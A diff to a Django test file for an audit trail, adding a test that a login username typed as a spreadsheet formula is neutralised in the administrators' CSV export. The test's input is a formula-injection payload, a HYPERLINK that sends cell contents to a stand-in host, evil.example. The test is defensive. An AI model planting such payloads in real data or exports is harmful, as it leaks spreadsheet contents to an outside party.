@@ -1,5 +1,8 @@
 """The audit trail: append-only in the database, a request id per request, logins, refusals, admin actions."""
 
+import csv
+import io
+
 import pytest
 from django.db import DatabaseError, connection, transaction
 
@@ -113,6 +116,17 @@ def test_administrators_export_the_trail_as_csv_and_the_export_is_recorded(admin
     assert lines[0].startswith("at,username,role,action")
     assert any("view_caseload" in line for line in lines[1:])
     assert AuditEvent.objects.filter(action=Action.EXPORT_AUDIT).exists()
+
+
+def test_a_user_name_typed_as_a_formula_at_login_is_exported_neutralised(client, admin_client):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.post("/accounts/login/", {"username": formula, "password": "wrong"})
+    ids = list(AuditEvent.objects.filter(action=Action.LOGIN_FAILED).values_list("pk", flat=True))
+    response = admin_client.post(
+        "/admin/accounts/auditevent/", {"action": "export_csv", "_selected_action": ids}
+    )
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [row["username"] for row in rows] == ["'" + formula]
 
 
 def test_nobody_adds_changes_or_deletes_audit_events_in_the_admin(admin_client):
